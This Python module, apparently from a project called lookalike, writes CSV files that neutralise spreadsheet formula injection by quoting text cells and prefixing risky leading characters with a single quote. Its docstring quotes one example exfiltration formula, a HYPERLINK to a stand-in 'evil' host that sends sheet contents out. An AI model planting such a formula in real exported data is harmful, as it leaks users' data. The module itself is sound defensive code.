"""CSV that a spreadsheet opens as data, never as formulas: the one way lookalike writes CSV.

Reports, the audit export and demo files carry text that came from outside (a reviewer's name
and note, a policy label, a catalog's item ids, names and paths). A spreadsheet that opens the
file evaluates a cell starting with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("http://evil/?"&A1)`` sends the sheet away when clicked). As OWASP recommends,
:func:`cell` prefixes such a text cell with a single quote, which makes it inert text; a cell
starting with a tab, a carriage return, a line feed or a NUL (which some spreadsheets skip before
looking) or a full-width ``＝ ＋ － ＠`` (which some normalise) is prefixed too. And every text
cell is quoted, so a spreadsheet that splits on another separator (``;`` in many locales) cannot
find a cell that starts inside one.

Numbers stay numbers: an ``int`` or ``float`` (a score of ``-0.12``, an id, a unix time) is a
value lookalike computed, never text someone typed, and a spreadsheet reads ``-0.12`` as the
number it is. Only text is neutralised, so a negative score is still sortable while a text
``-2+3`` becomes ``'-2+3`` (and so does an item id ``-5``, which is text).
"""

from __future__ import annotations

import csv
import numbers
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
"""A text cell starting with one of these is prefixed with a single quote."""


def cell(value: object) -> object:
    """A value as a CSV cell that no spreadsheet evaluates: numbers as they are, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, numbers.Number):  # int, float, bool, numpy scalars: not a formula
        return value
    text = value if isinstance(value, str) else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class Writer:
    """``csv.writer`` whose every cell goes through :func:`cell`."""

    def __init__(self, handle: IO[str]) -> None:
        self._writer = csv.writer(handle, quoting=csv.QUOTE_NONNUMERIC)  # text quoted, numbers bare

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


class DictWriter:
    """``csv.DictWriter`` whose every cell (header included) goes through :func:`cell`."""

    def __init__(self, handle: IO[str], fieldnames: Sequence[str]) -> None:
        self.fieldnames = list(fieldnames)
        self._writer = Writer(handle)

    def writeheader(self) -> None:
        self._writer.writerow(self.fieldnames)

    def writerow(self, row: Mapping[str, Any]) -> None:
        unknown = [key for key in row if key not in self.fieldnames]
        if unknown:  # as csv.DictWriter: a field nobody asked for is a bug, not a silent drop
            raise ValueError(f"dict contains fields not in fieldnames: {', '.join(map(repr, unknown))}")
        self._writer.writerow([row.get(name) for name in self.fieldnames])

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)
